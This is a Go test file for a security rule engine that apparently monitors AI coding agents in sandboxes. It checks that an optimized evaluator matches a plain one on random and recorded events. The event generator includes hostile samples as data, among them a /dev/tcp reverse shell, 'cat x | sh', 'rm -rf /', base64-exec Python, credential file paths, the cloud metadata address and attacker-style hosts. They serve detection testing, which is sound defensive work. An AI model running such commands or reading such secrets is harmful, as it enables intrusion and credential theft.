package rules

import (
	"bufio"
	"compress/gzip"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"maps"
	"math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/bodycam-dev/bodycam"
)

// What an engine leaves out, keeps and settles beforehand must change nothing: it is compared here with one that asks every
// rule of every event, check by check, and remembers nothing.

// plain evaluates a condition as it is written.
func (c *compiled) plain(m *machine) bool {
	switch c.op {
	case opAnd:
		for _, k := range c.kids {
			if !k.plain(m) {
				return false
			}
		}
		return true
	case opOr:
		for _, k := range c.kids {
			if k.plain(m) {
				return true
			}
		}
		return false
	case opNot:
		return !c.kids[0].plain(m)
	case opMemo:
		return c.kids[0].plain(m)
	}
	return c.may.has(m.ev.Type) && c.ok(m)
}

// newPlainEngine makes an engine whose rules are all asked, by plain.
func newPlainEngine(s *Set, ctx Context) *Engine {
	p := &Set{rules: make([]*rule, len(s.rules)), slots: s.slots}
	for i, r := range s.rules {
		k := *r
		if r.seq != nil {
			q := *r.seq
			q.preds = make([][64]pred, len(q.steps))
			for j := range q.preds {
				for t := range q.preds[j] {
					q.preds[j][t] = q.steps[j].plain
				}
			}
			k.seq = &q
		}
		p.rules[i] = &k
		if !k.Enabled || len(k.Unsupported) > 0 {
			continue
		}
		for t := range p.byType {
			a := asked{rule: &k}
			if k.seq == nil {
				a.ok = k.cond.plain
			}
			p.byType[t].asked = append(p.byType[t].asked, a)
		}
	}
	for t := range p.byType {
		p.byType[t].may = 1<<min(len(p.byType[t].asked), siftedRules) - 1
	}
	return p.NewEngine(ctx)
}

// explained is a context where some resources are explained.
type explained struct{ *Table }

func (explained) Explain(e *bodycam.Event) Explanation {
	if strings.Contains(e.Path, "explained") || strings.Contains(e.Host, "explained") {
		return ByTask
	}
	return 0
}

// compare plays events to both engines and returns how often each rule matched.
func compare(t *testing.T, s *Set, events []*bodycam.Event) map[string]int {
	t.Helper()
	table := func() Context {
		x := NewTable()
		x.IsHarness = func(p *Process) bool { return p.Parent == nil || p.Parent.Harness && p.Exe == p.Parent.Exe }
		return explained{x}
	}
	fast, plain := s.NewEngine(table()), newPlainEngine(s, table())
	matched := map[string]int{}
	for i, e := range events {
		got, want := say(fast, fast.Event(e)), say(plain, plain.Event(e))
		if got != want {
			t.Fatalf("event %d: %+v\nasked plainly:\n%s\nthe engine:\n%s", i, *e, want, got)
		}
		for _, m := range fast.matches {
			matched[m.Rule.Name]++
		}
		if i%16 == 0 {
			got, want = say(fast, fast.Would(e)), say(plain, plain.Would(e))
			if got != want {
				t.Fatalf("event %d would be %q, asked plainly %q", i, got, want)
			}
		}
	}
	if fast.Dropped() != plain.Dropped() {
		t.Errorf("%d given up, asked plainly %d", fast.Dropped(), plain.Dropped())
	}
	return matched
}

func say(e *Engine, matches []Match) string {
	var b strings.Builder
	for _, m := range matches {
		fmt.Fprintf(&b, "%s %v %.3f %d %s\n", m.Rule.Name, m.Events, m.Confidence, m.Count, e.Output(m))
	}
	return b.String()
}

// builtIn loads the rules of internal/security with a policy.
func builtIn(t *testing.T) *Set {
	t.Helper()
	files, err := filepath.Glob("../internal/security/rules/*.yaml")
	if err != nil || len(files) == 0 {
		t.Fatalf("the built-in rules: %v, %v", files, err)
	}
	var srcs []Source
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		srcs = append(srcs, Source{Name: f, Data: b})
	}
	srcs = append(srcs, Source{Name: "policy", Lists: map[string][]string{
		"workspace_paths": {"/workspace"}, "scratch_paths": {"/tmp", "/root/.cache"}, "harness_paths": {"/root/.codex"},
		"trusted_program_paths": {"/bin", "/usr/bin", "/usr/lib"}, "trusted_hosts": {"localhost", "pypi.org", "*.trusted.example"}, "resolvers": {"10.0.0.1"},
		"allowed_paths": {"/srv/shared"}, "allowed_commands": {"deploy-tool", "deploy-tool *"}, "decoy_paths": {"/root/.aws/credentials"}, "grading_paths": {"/tests"}}})
	s, err := LoadSources(Options{}, srcs...)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestBuiltInRulesAgainstPlain(t *testing.T) {
	s := builtIn(t)
	matched := compare(t, s, randomEvents(rand.New(rand.NewPCG(3, 4)), 60_000))
	t.Logf("%d rules matched: %v", len(matched), slices.Sorted(maps.Keys(matched)))
	if len(matched) < 45 {
		t.Errorf("only %d rules ever matched: the events say too little", len(matched))
	}
}

// Recorded events are those of programs as they are: a shell that runs git, gcc, python and curl, and some of the attacks.
func TestBuiltInRulesAgainstPlainRecorded(t *testing.T) {
	matched := compare(t, builtIn(t), recorded(t))
	t.Logf("matched: %v", matched)
	if len(matched) < 8 {
		t.Errorf("only %d rules matched", len(matched))
	}
}

// recorded reads events that were recorded: each with its length in front.
func recorded(t *testing.T) (events []*bodycam.Event) {
	f, err := os.Open("testdata/recorded.gz")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	r := bufio.NewReader(z)
	for {
		n, err := binary.ReadUvarint(r)
		if errors.Is(err, io.EOF) {
			return events
		}
		if err != nil {
			t.Fatal(err)
		}
		b := make([]byte, n)
		e := &bodycam.Event{}
		if _, err := io.ReadFull(r, b); err != nil {
			t.Fatal(err)
		}
		if err := bodycam.DecodeEvent(b, e); err != nil {
			t.Fatal(err)
		}
		events = append(events, e)
	}
}

// A field that is said to be settled by an event's form must be: each alone is asked in several ways, about events that differ
// in one thing only.
func TestSettledFieldsAgainstPlain(t *testing.T) {
	r := rand.New(rand.NewPCG(5, 6))
	var events []*bodycam.Event
	of := map[bodycam.Type]int{}
	for _, e := range randomEvents(r, 5000) {
		if of[e.Type]++; of[e.Type] > 5 {
			continue
		}
		events = append(events, e)
		for _, change := range changes {
			if e.Type == bodycam.TypeFork {
				break
			}
			v := *e
			change(&v)
			events = append(events, &v)
		}
	}
	back := slices.Clone(events) // what one event can't rule out for the next, the next can for it
	slices.Reverse(back)
	events = append(events, back...)
	for i, e := range events {
		e.Seq, e.Time, e.Boot = uint64(i+1), 1e18+int64(i)*1e7, uint64(i)*1e7
	}
	var files []string
	var file strings.Builder
	n := 0
	for _, name := range slices.Sorted(maps.Keys(eventFields)) {
		n += asksOf(&file, name)
		if n >= 50 {
			files, n = append(files, file.String()), 0
			file.Reset()
		}
	}
	files = append(files, file.String())
	file.Reset()
	for name := range maps.Keys(programFields) {
		asksOf(&file, name)
	}
	files = append(files, file.String())
	for _, y := range files {
		s := load(t, y)
		if u := s.Unsupported(); len(u) > 0 {
			t.Fatalf("unsupported: %v", u)
		}
		matched := compare(t, s, events)
		for _, r := range s.rules {
			if matched[r.Name] == 0 && strings.HasSuffix(r.Name, " exists") {
				t.Errorf("%s is never true", r.Name)
			}
		}
	}
}

// changes are what two events can differ in.
var changes = []func(*bodycam.Event){
	func(e *bodycam.Event) { e.Path = "" },
	func(e *bodycam.Event) { e.Path = "/workspace/other" },
	func(e *bodycam.Event) { e.PathGiven = "" },
	func(e *bodycam.Event) { e.PathGiven = e.Path },
	func(e *bodycam.Event) { e.PathGiven, e.CWD = "./"+e.Path, "/" },
	func(e *bodycam.Event) { e.Path, e.PathGiven = "", e.Path },
	func(e *bodycam.Event) { e.Path2, e.Path2Given = e.Path, "" },
	func(e *bodycam.Event) { e.Path2, e.Path2Given = "", e.Path },
	func(e *bodycam.Event) { e.Path2, e.Path2Given = e.Path, e.Path },
	func(e *bodycam.Event) { e.Path2, e.Path2Given, e.CWD = e.Path, "./"+e.Path, "/" },
	func(e *bodycam.Event) { e.Errno = 13 - e.Errno },
	func(e *bodycam.Event) { e.Access ^= bodycam.Read },
	func(e *bodycam.Event) { e.Access ^= bodycam.Write | bodycam.Dir },
	func(e *bodycam.Event) { e.Access ^= bodycam.Trunc },
	func(e *bodycam.Event) { e.Detail = "new" },
	func(e *bodycam.Event) { e.Marks ^= bodycam.MarkAnonymous },
	func(e *bodycam.Event) { e.Flags ^= 0o4001 },
	func(e *bodycam.Event) { e.Window = 3 - e.Window%4 },
	func(e *bodycam.Event) { e.Signal ^= 9 },
	func(e *bodycam.Event) { e.NR = 257 - e.NR },
	func(e *bodycam.Event) { e.Detail += "/e" },
	func(e *bodycam.Event) { e.Detail = "" },
	func(e *bodycam.Event) { e.UnixAddr = "/tmp/e" },
	func(e *bodycam.Event) { e.UnixAddr, e.Detail = e.Detail, e.UnixAddr },
	func(e *bodycam.Event) { e.Host = "changed.example" },
	func(e *bodycam.Event) { e.Host = "" },
	func(e *bodycam.Event) { e.HostSource ^= 1 },
	func(e *bodycam.Event) { e.Proto ^= 1 },
	func(e *bodycam.Event) { e.Remote = netip.AddrPort{} },
	func(e *bodycam.Event) { e.Remote = netip.AddrPortFrom(e.Remote.Addr(), 0) },
	func(e *bodycam.Event) { e.Local = netip.AddrPort{} },
	func(e *bodycam.Event) { e.Local = e.Remote },
	func(e *bodycam.Event) { e.Local, e.Remote = e.Remote, e.Local },
	func(e *bodycam.Event) { e.Remote = netip.MustParseAddrPort("203.0.113.9:2") },
	func(e *bodycam.Event) { e.Local = netip.MustParseAddrPort("203.0.113.9:0") },
	func(e *bodycam.Event) { e.Ino++ },
	func(e *bodycam.Event) { e.Exe = "/tmp/x" },
	func(e *bodycam.Event) { e.Script = "/tmp/e" },
	func(e *bodycam.Event) { e.Argv = append([]string{"."}, e.Argv...) },
	func(e *bodycam.Event) { e.Argv = nil },
	func(e *bodycam.Event) { e.Argv = []string{strings.Join(e.Argv, " ")} },
	func(e *bodycam.Event) { e.Access |= bodycam.Temp },
}

// asksOf writes rules about one field, and returns how many.
func asksOf(b *strings.Builder, name string) int {
	f, _ := lookupField(name)
	conds := []string{name + " exists"}
	switch f.Type {
	case "int", "sign":
		conds = append(conds, name+" >= 0")
		if f.Type == "int" {
			conds = append(conds, name+" > 3")
		}
	case "bool":
		conds = append(conds, name+" = true")
	case "ip":
		conds = append(conds, name+" in (203.0.113.9, 10.0.0.2)")
	case "net":
		conds = append(conds, name+" = 10.0.0.0/8")
	case "type":
		conds = append(conds, name+" in (openat, execve, mount)")
	case "kind":
		conds = append(conds, name+" in (open, exec)")
	default:
		conds = append(conds, name+` contains e`, "not "+name+` contains "/"`, name+` startswith "."`)
	}
	for i, c := range conds {
		rule := name + " exists"
		if i > 0 {
			rule = fmt.Sprint(name, " ", i)
		}
		fmt.Fprintf(b, "- rule: %q\n  desc: d\n  output: %%evt.num\n  priority: NOTICE\n  warn_evttypes: false\n  condition: >\n    %s\n", rule, c)
	}
	return len(conds)
}

// randomEvents is a run that does at random what rules look at, with few names, so that the same forms come again in other
// circumstances.
func randomEvents(r *rand.Rand, n int) []*bodycam.Event {
	pick := func(l ...string) string { return l[r.IntN(len(l))] }
	file := func() string {
		return pick("/root/.ssh/id_rsa", "/root/.aws/credentials", "/etc/shadow", "/etc/hosts", "/etc/passwd", "/usr/bin/git", "/usr/bin/new", "/usr/lib/python3/x.py", "/workspace/a.go", "/workspace/b.go", "/workspace/.git/hooks/pre-push",
			"/workspace/.git/index", "/workspace/AGENTS.md", "/workspace/.github/workflows/ci.yml", "/workspace/.vscode/tasks.json", "/workspace/node_modules/p/index.js", "/workspace/secrets.enc", "/workspace/HOW_TO_DECRYPT.txt",
			"/workspace/explained.txt", "/tmp/x", "/tmp/y/z", "/tmp/lib.so", "/dev/null", "/dev/sda", "/proc/7/environ", "/proc/self/maps", "/sys/kernel/tracing/on", "/tests/test.py", "/srv/app/settings.ini", "/srv/shared/x",
			"/root/.bashrc", "/root/.codex/auth.json", "/var/log/x.log", "/root/.bash_history", "/workspace/.git/HEAD", "/root/explained", "pipe:[7]", "/memfd:x")
	}
	given := func(p string) string {
		switch r.IntN(5) {
		case 0:
			return ""
		case 1:
			return "../" + p
		case 2:
			return "/proc/self/root" + p
		}
		return p
	}
	exes := []string{"/usr/bin/bash", "/usr/bin/git", "/usr/bin/python3.11", "/usr/bin/curl", "/usr/bin/rm", "/tmp/x", "/workspace/tool", "/usr/bin/apt-get", "/usr/bin/deploy-tool", "/usr/bin/sudo", "/usr/bin/find", "/usr/bin/ps", "/usr/bin/ssh-keygen", "memfd:x", "/usr/bin/nc", "/usr/bin/crontab"}
	args := [][]string{nil, {"-c", "cat x | sh"}, {"-rf", "/"}, {"-p"}, {"reflog", "expire", "--expire=now", "--all"}, {"-m", "pip", "install"}, {"x.py"}, {"-e", "/bin/sh"}, {"/", "-name", "id_rsa"}, {"credential", "fill"}, {"config", "core.hooksPath", "x"},
		{"-c", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1"}, {"-c", "exec(__import__('base64').b64decode('eA=='))"}}
	hosts := []string{"", "pypi.org", "evil.example", "a.trusted.example.", "EVIL.example", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1.evil.example", "explained.example", "127.0.0.1", "localhost", "metadata.google.internal"}
	addrs := []string{"203.0.113.9:443", "10.0.0.1:53", "127.0.0.1:80", "169.254.169.254:80", "[2001:db8::1]:443", "10.0.0.2:40000", "[fe80::1%eth0]:53"}
	errnos := []int32{0, 0, 0, 0, 0, 2, 13, 1, 11, 115}
	windows := []bodycam.Window{bodycam.WindowAgent, bodycam.WindowAgent, bodycam.WindowAgent, bodycam.WindowPostAgent, bodycam.WindowVerify, bodycam.WindowNone}
	details := []string{"", "", "POST /x", "AF_PACKET SOCK_RAW", "security.capability", "A", "fd 3", "new", "new"}
	inode := func(p string) uint64 { // some names are one file, some have none
		return uint64(len(p)*7+int(p[len(p)-1])) % 23
	}
	procs := []int32{10, 11}
	next := int32(12)
	var events []*bodycam.Event
	add := func(e bodycam.Event) {
		e.Seq = uint64(len(events) + 1)
		e.Time, e.Boot = 1e18+int64(e.Seq)*1e7, e.Seq*1e7
		e.Sensor = "bpf"
		events = append(events, &e)
	}
	add(bodycam.Event{Type: bodycam.TypeExec, Proc: id(10), Exe: "/usr/local/bin/codex", Argv: []string{"codex"}, CWD: "/workspace"})
	add(bodycam.Event{Type: bodycam.TypeFork, Proc: id(10), Child: id(11)})
	numbers := []int32{-1, 257, 2, 59, 82, 165, 101, 425, 42, 321}
	for len(events) < n {
		p := file()
		e := bodycam.Event{Type: bodycam.Type(1 + r.IntN(len(bodycam.Types())-1)), Proc: id(procs[r.IntN(len(procs))]), Path: p, PathGiven: given(p), Dev: 1, Ino: inode(p), Errno: errnos[r.IntN(len(errnos))],
			Access: bodycam.Access(r.IntN(1 << 9)), Window: windows[r.IntN(len(windows))], Detail: details[r.IntN(len(details))], ABI: bodycam.ABIAMD64, NR: numbers[r.IntN(len(numbers))], Flags: uint64(r.IntN(3)) * 0o4011,
			UID: uint32(r.IntN(2)) * 1000, Signal: int32(r.IntN(3)) * 9, TID: 1}
		if r.IntN(3) == 0 { // mostly what programs do
			e.Type = bodycam.TypeOpen
		}
		if r.IntN(2) == 0 {
			e.Access = []bodycam.Access{bodycam.Read, bodycam.Write | bodycam.Create, bodycam.Write | bodycam.Trunc, bodycam.Read | bodycam.Dir, bodycam.Read | bodycam.Trunc, bodycam.Trunc}[r.IntN(6)]
		}
		if r.IntN(20) == 0 {
			e.Marks = bodycam.Mark(1) << r.IntN(11)
		}
		if r.IntN(4) == 0 {
			e.CWD = pick("/workspace", "/tmp", "/root")
		}
		if r.IntN(10) == 0 {
			e.Path = ""
		}
		switch e.Type {
		case bodycam.TypeRename, bodycam.TypeLink, bodycam.TypeSymlink:
			e.Path2 = file()
			e.Path2Given = given(e.Path2)
		case bodycam.TypeMount:
			if r.IntN(4) != 0 {
				continue
			}
			e.Path2, e.Flags = file(), 0x1000
		case bodycam.TypeFork:
			if len(procs) > 60 {
				procs = procs[:2]
			}
			e.Child, e.Errno = id(next), 0
			procs = append(procs, next)
			next++
		case bodycam.TypeExec:
			e.Exe = exes[r.IntN(len(exes))]
			e.Path, e.PathGiven, e.Argv = e.Exe, given(e.Exe), append([]string{e.Exe}, args[r.IntN(len(args))]...)
			e.Script = pick("", "", "", "/workspace/a.sh")
		case bodycam.TypeSignal, bodycam.TypePtrace:
			e.Child = id(procs[r.IntN(len(procs))])
		case bodycam.TypeClose, bodycam.TypeFlow:
			e.BytesRead, e.BytesWritten = uint64(r.IntN(2))*4096, uint64(r.IntN(2))*4096
		}
		if netTypes.has(e.Type) || e.Type == bodycam.TypeDNS || e.Type == bodycam.TypeTLS || e.Type == bodycam.TypeHTTP {
			e.Path, e.PathGiven, e.Ino = "", "", 0
			e.Host, e.HostSource = hosts[r.IntN(len(hosts))], bodycam.HostSource(r.IntN(4))
			e.Proto = bodycam.Proto(r.IntN(6))
			if r.IntN(4) != 0 {
				e.Remote = netip.MustParseAddrPort(addrs[r.IntN(len(addrs))])
			}
			if r.IntN(2) != 0 {
				e.Local = netip.AddrPortFrom(netip.MustParseAddrPort(addrs[r.IntN(len(addrs))]).Addr(), uint16(r.IntN(3)))
			}
			if r.IntN(5) == 0 {
				e.UnixAddr = pick("/var/run/docker.sock", "/tmp/x", "@/tmp/.X11-unix/X0")
			}
		}
		add(e)
	}
	return events
}
